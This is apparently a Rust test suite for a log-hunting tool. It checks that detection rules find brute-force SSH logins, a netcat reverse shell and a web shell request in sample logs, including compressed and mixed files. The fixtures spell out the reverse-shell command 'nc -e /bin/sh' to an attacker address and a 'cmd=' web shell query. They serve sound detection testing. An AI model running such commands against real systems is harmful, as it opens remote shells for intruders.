//! `garrison hunt` on real inputs: what it finds, in which files, and what it says of those it cannot read.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests fail loudly"
)]

use std::collections::BTreeSet;
use std::fs::File;
use std::io::{ErrorKind, Write as _};
use std::process::Command;
use std::time::{Duration, SystemTime};

use flate2::Compression;
use flate2::write::GzEncoder;
use regex::Regex;
use serde_json::Value;

use crate::support::{Place, REFUSED, Ran};

mod support;

const ATTACKER: &str = "203.0.113.24";

/// The rules of the tests: one for each kind of log.
const EXPORT: &str = "
title: Customers exported
id: 22222222-2222-4222-8222-222222222222
logsource: {product: shop}
detection:
  selection: {act: export}
  condition: selection
level: medium
";
const TOOL: &str = "
title: Netcat started
id: 33333333-3333-4333-8333-333333333333
logsource: {product: linux, category: process_creation}
detection:
  selection: {CommandLine|contains: 'nc -e'}
  condition: selection
level: high
";
const SHELL: &str = "
title: Web shell asked
id: 44444444-4444-4444-8444-444444444444
logsource: {category: webserver}
detection:
  selection: {cs-uri-query|contains: cmd=}
  condition: selection
level: critical
";

const SSHD: [&str; 3] = [
    "Nov 20 13:05:00 web-1 sshd[812]: Failed password for root from 203.0.113.24 port 40022 ssh2",
    "Nov 20 13:05:02 web-1 sshd[812]: Accepted publickey for alice from 10.20.0.5 port 40100 ssh2: ED25519 SHA256:x",
    "Nov 20 13:05:09 web-1 sshd[815]: Failed password for invalid user admin from 203.0.113.24 port 40031 ssh2",
];
const JSON: [&str; 3] = [
    r#"{"time":"2026-11-20T13:06:00Z","act":"view","who":"alice"}"#,
    r#"{"time":"2026-11-20T13:06:05Z","act":"export","who":"mallory"}"#,
    r#"{"time":"2026-11-20T13:06:09Z","act":"view","who":"bob"}"#,
];
const AUDIT: [&str; 4] = [
    r#"type=SYSCALL msg=audit(1795179600.100:71): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=900 auid=1000 uid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc" key="exec""#,
    r#"type=EXECVE msg=audit(1795179600.100:71): argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="203.0.113.24" a4="443""#,
    r#"type=CWD msg=audit(1795179600.100:71): cwd="/root""#,
    "type=EOE msg=audit(1795179600.100:71): ",
];
const ACCESS: [&str; 3] = [
    r#"10.20.0.9 - - [20/Nov/2026:13:07:00 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0""#,
    r#"203.0.113.24 - - [20/Nov/2026:13:07:01 +0000] "GET /up/x.php?cmd=id HTTP/1.1" 200 31 "-" "curl/8.5.0""#,
    r#"10.20.0.9 - - [20/Nov/2026:13:07:02 +0000] "GET /cart HTTP/1.1" 200 734 "-" "Mozilla/5.0""#,
];

const HUNT: &str = "hunt -o ndjson --rules rules";

/// A folder with the rules of the tests.
fn place() -> Place {
    let place = Place::new();
    for (name, rule) in [("refused", REFUSED), ("export", EXPORT), ("tool", TOOL), ("shell", SHELL)] {
        place.write(&format!("rules/{name}.yml"), rule);
    }
    place
}

fn text(lines: &[&str]) -> String {
    lines.iter().flat_map(|line| [*line, "\n"]).collect()
}

/// A login that sshd refuses, without a line end.
fn failure(time: &str, port: u32) -> String {
    format!("{time} web-1 sshd[1]: Failed password for root from 192.0.2.1 port {port} ssh2")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Findings without the place where they were found, for comparing the same events in other files.
fn placeless(ran: &Ran) -> BTreeSet<String> {
    let mut rows = ran.rows();
    for row in &mut rows {
        let row = row.as_object_mut().unwrap();
        row.remove("file").expect("a finding names its file");
        row.remove("line").expect("a finding names its line");
    }
    rows.iter().map(Value::to_string).collect()
}

fn titles(ran: &Ran) -> Vec<String> {
    ran.rows().iter().map(|row| row["rule"]["title"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn every_step_of_the_attack_is_found() {
    let place = Place::new();
    place.run("log generate --story shop --attack --events 3000 --out shop");
    let ran = place.run("hunt -o ndjson shop");
    assert_eq!(ran.code, 3, "{}", ran.err);
    let rows = ran.rows();
    for (step, part, address) in [
        ("failed login", "Failed password for", Some(ATTACKER)),
        ("success from outside", "Accepted password for", Some(ATTACKER)),
        ("root shell by sudo", "USER=root ; COMMAND=/bin/bash", None),
        ("file for cron", "/etc/cron.d/", None),
        ("web shell", ".php?cmd=", Some(ATTACKER)),
    ] {
        let seen = rows.iter().any(|row| {
            row["raw"].as_str().unwrap().contains(part)
                && (address.is_none() || row["address"].as_str() == address)
        });
        assert!(seen, "{step}");
    }
}

#[test]
fn an_ordinary_day_sets_nothing_off() {
    let place = Place::new();
    for seed in [1, 2, 77] {
        place.run(&format!("log generate --story shop --seed {seed} --out day-{seed}"));
        let ran = place.run(&format!("hunt -o ndjson day-{seed}"));
        assert_eq!((ran.code, ran.out.as_str()), (0, ""), "seed {seed}");
    }
}

#[test]
fn a_finding_says_what_an_analyst_asks_first() {
    let place = place();
    place.write("auth.log", text(&SSHD));
    let row = &place.run(&format!("{HUNT} auth.log")).rows()[1];
    for (field, value) in [
        ("host", "web-1"),
        ("user", "admin"),
        ("address", ATTACKER),
        ("file", "auth.log"),
        ("level", "low"),
        ("kind", "sshd"),
        ("raw", SSHD[2]),
    ] {
        assert_eq!(row[field], value, "{field}");
    }
    assert_eq!(row["line"], 3);
    assert_eq!(row["matched"], serde_json::json!({"action": "login", "outcome": "failure"}));
}

#[test]
fn compressed_files_give_the_same_findings() {
    let place = place();
    let log = text(&SSHD).repeat(50);
    place.write("plain.log", &log);
    place.write("log.gz", gzip(log.as_bytes()));
    place.write("log.zst", zstd::encode_all(log.as_bytes(), 0).unwrap());
    let (one, two) = log.split_at(log.len() / 3);
    // Log rotation appends: a gzip file of two members is one text.
    place.write("members.gz", [gzip(one.as_bytes()), gzip(two.as_bytes())].concat());
    let named = |file: &str| place.run(&format!("{HUNT} {file}")).out.replace(file, "plain.log");
    let plain = named("plain.log");
    assert_eq!(plain.lines().count(), 100);
    for file in ["log.gz", "log.zst", "members.gz"] {
        assert_eq!(named(file), plain, "{file}");
    }
}

#[test]
fn standard_input_gives_the_same_findings() {
    let place = place();
    place.write("access.log", text(&ACCESS));
    let piped = place.run_on(&format!("{HUNT} -"), text(&ACCESS));
    assert_eq!(placeless(&piped).len(), 1);
    assert_eq!(placeless(&piped), placeless(&place.run(&format!("{HUNT} access.log"))));
}

#[test]
fn compressed_standard_input_is_recognised() {
    let ran = place().run_on(&format!("{HUNT} -"), gzip(text(&ACCESS).as_bytes()));
    assert_eq!(titles(&ran), ["Web shell asked"]);
}

#[test]
fn threads_do_not_change_a_byte_of_the_output() {
    let place = place();
    // The first file is by far the longest, so that the others are done before it.
    for (number, times) in [(1, 3000), (2, 40), (3, 700), (4, 1)] {
        place.write(&format!("logs/{number}.log"), text(&SSHD).repeat(times));
    }
    let [one, two] = [1, 2].map(|threads| place.run(&format!("{HUNT} --threads {threads} logs")).out);
    assert_eq!(one.lines().count(), 2 * (3000 + 40 + 700 + 1));
    assert!(one == two, "two threads print something else than one");
}

#[test]
fn the_level_leaves_lesser_rules_out() {
    let place = place();
    place.write("all.log", text(&[SSHD.as_slice(), &JSON, &AUDIT, &ACCESS].concat()));
    for (level, findings) in [("informational", 5), ("low", 5), ("medium", 3), ("high", 2), ("critical", 1)] {
        let ran = place.run(&format!("{HUNT} --level {level} all.log"));
        assert_eq!(ran.rows().len(), findings, "--level {level}");
    }
}

/// The hours in which an event was found, of events at 10, 12 and 14 o'clock on 5 March 2024.
fn hours_found(event: impl Fn(u32) -> String, span: &str) -> Vec<String> {
    let place = place();
    place.write("day.log", [10, 12, 14].map(event).join("\n"));
    // Two days later: the year that is guessed for the events is the one in which the file was written.
    let written = SystemTime::UNIX_EPOCH + Duration::from_hours(474_948);
    File::options().write(true).open(place.path("day.log")).unwrap().set_modified(written).unwrap();
    let rows = place.run(&format!("{HUNT} {span} day.log")).rows();
    let hour =
        |row: &Value| row["time"].as_str().unwrap().strip_prefix("2024-03-05T").unwrap()[..2].to_owned();
    rows.iter().map(hour).collect()
}

const SPANS: [(&str, &[&str]); 5] = [
    ("--from 2024-03-05T11:00:00Z", &["12", "14"]),
    ("--to 2024-03-05T14:00:00Z", &["10", "12"]),
    ("--from 2024-03-05T12:00:00Z --to 2024-03-05T14:00:00Z", &["12"]),
    ("--from 2024-03-05 --to 2024-03-06", &["10", "12", "14"]),
    ("--from 1d", &[]),
];

#[test]
fn a_span_bounds_events_that_say_their_time() {
    let event = |hour| format!(r#"{{"time":"2024-03-05T{hour}:00:00Z","act":"export"}}"#);
    for (span, hours) in SPANS {
        assert_eq!(hours_found(event, span), hours, "{span}");
    }
}

#[test]
fn a_span_bounds_events_whose_year_is_guessed() {
    let event = |hour| failure(&format!("Mar  5 {hour}:00:00"), 9);
    for (span, hours) in SPANS {
        assert_eq!(hours_found(event, span), hours, "{span}");
    }
}

#[test]
fn what_is_guessed_of_a_time_is_marked() {
    let place = place();
    place.write("all.log", text(&[SSHD[0], JSON[1]]));
    let rows = place.run(&format!("{HUNT} all.log")).rows();
    assert_eq!(rows[0]["time_guessed"], serde_json::json!(["year", "zone"]));
    assert_eq!(rows[1].get("time_guessed"), None, "an RFC 3339 time says everything");
}

#[test]
fn a_mixed_file_holds_what_its_parts_hold() {
    let place = place();
    let logs: [(&str, &[&str]); 4] =
        [("auth.log", &SSHD), ("shop.log", &JSON), ("audit.log", &AUDIT), ("access.log", &ACCESS)];
    let mut mixed = Vec::new();
    for turn in 0..4 {
        mixed.extend(logs.iter().filter_map(|(_, lines)| lines.get(turn)));
    }
    let mut apart = BTreeSet::new();
    for (name, lines) in logs {
        place.write(name, text(lines));
        apart.extend(placeless(&place.run(&format!("{HUNT} {name}"))));
    }
    place.write("mixed.log", text(&mixed));
    assert_eq!(apart.len(), 5);
    assert_eq!(placeless(&place.run(&format!("{HUNT} mixed.log"))), apart);
}

#[test]
fn an_audit_event_in_pieces_is_one_finding() {
    let place = place();
    // A second event and a syslog line come between the lines of the first.
    let second = AUDIT.map(|line| line.replace(":71)", ":72)"));
    let mut lines = vec![SSHD[1]];
    for (one, two) in AUDIT.iter().zip(&second) {
        lines.extend([*one, SSHD[1], two.as_str()]);
    }
    place.write("audit.log", text(&lines));
    let ran = place.run(&format!("{HUNT} audit.log"));
    assert_eq!(titles(&ran), ["Netcat started", "Netcat started"]);
    assert_eq!(ran.rows()[0]["line"], 2, "the line on which the event begins");
}

#[test]
fn an_unreadable_file_hides_no_finding_of_the_others() {
    let place = place();
    place.write("a.log", text(&SSHD));
    place.write("z.log", text(&JSON));
    // A link to itself cannot be opened by anybody, root included.
    std::os::unix::fs::symlink("loop.log", place.path("loop.log")).unwrap();
    let ran = place.run(&format!("{HUNT} a.log loop.log z.log"));
    assert_eq!(titles(&ran), ["SSH login refused", "SSH login refused", "Customers exported"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("loop.log: "), "{}", ran.err);
}

#[test]
fn a_missing_file_is_named() {
    let ran = place().run(&format!("{HUNT} nowhere.log"));
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("nowhere.log: "), "{}", ran.err);
}

#[test]
fn a_truncated_gzip_file_is_read_as_far_as_it_goes() {
    let place = place();
    let lines: Vec<String> = (0..40_000).map(|port| failure("Nov 20 13:05:00", port)).collect();
    let packed = gzip(lines.join("\n").as_bytes());
    place.write("cut.log.gz", &packed[..packed.len() / 2]);
    let ran = place.run(&format!("{HUNT} cut.log.gz"));
    let place = Regex::new(r"(?m)^cut\.log\.gz:(\d+): \S").unwrap();
    let line: usize = place.captures(&ran.err).expect(&ran.err)[1].parse().unwrap();
    assert_eq!(ran.code, 1);
    // Half of the bytes hold about half of the lines; how the last ones are buffered is not promised.
    assert!((10_000..30_000).contains(&ran.rows().len()), "{} findings", ran.rows().len());
    assert!((10_000..30_000).contains(&line), "line {line}");
}

#[test]
fn a_broken_rule_is_refused_and_the_others_work() {
    let place = place();
    place.write(
        "rules/broken.yml",
        "title: Broken\nlogsource: {product: linux}\ndetection:\n  a:\n    b|re: '('\n  condition: a\n",
    );
    place.write("auth.log", text(&SSHD));
    let ran = place.run(&format!("{HUNT} auth.log"));
    assert_eq!((ran.code, ran.rows().len()), (3, 2));
    let told = Regex::new(r"rules/broken\.yml:5: .*\(").unwrap();
    assert!(told.is_match(&ran.err), "{}", ran.err);
}

#[test]
fn rules_come_from_every_folder_that_is_named() {
    let place = Place::new();
    place.write("one/refused.yml", REFUSED);
    place.write("two/export.yml", EXPORT);
    place.write("all.log", text(&[SSHD[0], JSON[1], ACCESS[1]]));
    let ran = place.run("hunt -o ndjson --rules one --rules two all.log");
    assert_eq!(titles(&ran), ["SSH login refused", "Customers exported"]);
}

/// What the system's own `logger` would send, or nothing where there is none.
fn datagram(format: &str) -> Option<Vec<u8>> {
    // A UDP socket needs no listener, and with --no-act nothing is sent through it.
    let fixed =
        ["--no-act", "--stderr", "--udp", "--server", "127.0.0.1", "--priority", "auth.info", "-t", "sshd"];
    let message = "Failed password for root from 203.0.113.24 port 51122 ssh2";
    match Command::new("logger").args(fixed).args([format, message]).output() {
        Ok(output) => Some(output.stderr),
        Err(error) if error.kind() == ErrorKind::NotFound => None,
        Err(error) => panic!("starting logger: {error}"),
    }
}

#[test]
fn what_logger_sends_is_understood() {
    for format in ["--rfc3164", "--rfc5424", "--rfc5424=notime", "--rfc5424=notime,nohost", "--rfc5424=notq"]
    {
        let Some(datagram) = datagram(format) else {
            println!("skipped: `logger` is not installed");
            return;
        };
        let shown = String::from_utf8_lossy(&datagram).into_owned();
        let rows = place().run_on(&format!("{HUNT} -"), datagram).rows();
        let told = |field| rows.first().and_then(|row| row[field].as_str());
        assert_eq!((told("user"), told("address")), (Some("root"), Some(ATTACKER)), "{shown}");
        assert_eq!(told("host").is_none(), format.contains("nohost"), "{shown}");
    }
}
